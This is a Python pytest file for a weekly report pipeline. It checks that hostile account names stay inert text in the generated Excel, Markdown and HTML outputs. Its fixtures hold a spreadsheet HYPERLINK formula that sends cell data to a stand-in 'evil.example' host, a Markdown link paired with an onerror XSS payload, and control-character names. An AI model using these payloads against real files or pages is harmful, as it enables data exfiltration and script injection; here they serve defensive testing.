"""Hostile account names stay inert text in every file the weekly report writes.

The clean build's warehouse is copied, one account renamed to a spreadsheet formula, a
second to a Markdown link and a third to a name with control characters in every mart that
carries the name, and the report of the latest week rendered from the copy (real marts,
real renderer)."""

from __future__ import annotations

import shutil
from html import escape

import duckdb
import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from ka_pipeline.report.build import build_weekly_report
from ka_pipeline.report.safe_text import markdown_text, spreadsheet_text
from ka_pipeline.runs.report import latest_report_week

FORMULA = '=HYPERLINK("http://evil.example/x?"&C2,"open")'
LINK = "[点击领奖](http://evil.example/a) <img src=x onerror=alert(1)>"
# a BEL and an ESC, which openpyxl refuses (IllegalCharacterError): written as U+FFFD
CONTROL = "Acme\x07 Trading\x1b[31m"


@pytest.mark.parametrize("text", ["=1+1", "+86", "-2", "@SUM(A1)", "\tx", "\r=1", "＝1"])
def test_formula_like_text_gets_the_text_prefix(text):
    assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_text("华东精密制造") == "华东精密制造"


def test_markdown_text_cannot_format_link_or_embed_html():
    """Rendered by a CommonMark renderer (markdown-it, installed with rich), the text is
    the same text: no link, no image, no emphasis, no table cell break."""
    text = markdown_text(LINK + " | *x* http://evil.example\nnext")
    html = MarkdownIt("commonmark").enable("table").renderInline(text)
    for tag in ("<a ", "<img", "<em>", "<strong>"):
        assert tag not in html, html
    assert "[点击领奖](http://evil.example/a)" in html and "&lt;img" in html
    assert "\n" not in text
    assert markdown_text("Acme_Corp 1.5%") == "Acme\\_Corp 1.5%"


@pytest.fixture(scope="module")
def hostile_report(clean_build, tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile_report")
    warehouse = root / "warehouse.duckdb"
    shutil.copyfile(clean_build.settings.warehouse_path, warehouse)
    with duckdb.connect(str(warehouse)) as conn:
        # the three largest accounts: in the summary's top list and in the review workbook
        (formula_id, link_id, control_id) = [
            r[0]
            for r in conn.execute(
                "select account_id from marts.mart_top_accounts "
                "where ranking_metric = 'revenue' order by rank_position limit 3"
            ).fetchall()
        ]
        tables = conn.execute(
            "select table_schema, table_name from information_schema.columns "
            "where column_name = 'account_name' and table_schema = 'marts' "
            "and table_catalog = current_database() "
            "and table_name in (select table_name from information_schema.columns "
            "  where column_name = 'account_id' and table_schema = 'marts')"
        ).fetchall()
        for schema, table in tables:
            for account, name in ((formula_id, FORMULA), (link_id, LINK), (control_id, CONTROL)):
                conn.execute(
                    f"update {schema}.{table} set account_name = ? where account_id = ?",
                    [name, account],
                )
    week = latest_report_week(clean_build.settings)
    result = build_weekly_report(warehouse_path=warehouse, output_dir=root / "out", week=week)
    return result


def test_no_workbook_cell_is_a_formula(hostile_report):
    for output in hostile_report.outputs.values():
        workbook = load_workbook(output.xlsx)
        names = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                    if cell.value in ("'" + FORMULA, LINK):
                        names.append(cell.value)
                    if isinstance(cell.value, float | int):
                        assert cell.data_type == "n"
        workbook.close()
        # the hostile name is there, as text, on the all-accounts sheet and its region sheet
        assert names.count("'" + FORMULA) >= 2, output.xlsx


def test_control_characters_in_names_do_not_break_the_workbooks(hostile_report):
    shown = "Acme\ufffd Trading\ufffd[31m"  # the rest of the name stays as delivered
    for output in hostile_report.outputs.values():
        workbook = load_workbook(output.xlsx)
        cells = [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
        workbook.close()
        # the all-accounts sheet and the account's region sheet, in both languages
        assert cells.count(shown) >= 2, output.xlsx


def test_summary_and_its_messages_show_the_names_as_plain_text(hostile_report):
    for output in hostile_report.outputs.values():
        summary = output.summary.read_text(encoding="utf-8")
        assert markdown_text(LINK) in summary and markdown_text(FORMULA) in summary
        html = MarkdownIt("commonmark").enable("table").render(summary)  # as a reader sees it
        assert "<a " not in html and "<img" not in html, output.summary
        assert "http://evil" not in summary  # not even a bare URL a client would link


def test_the_html_report_escapes_the_names(hostile_report):
    for output in hostile_report.outputs.values():
        page = output.html.read_text(encoding="utf-8")
        assert "<img src=x" not in page and '<a href="http://evil' not in page, output.html
        # the names are shown, as escaped text (&lt;img ..., &quot;, &amp;)
        assert escape(LINK) in page and escape(FORMULA) in page, output.html
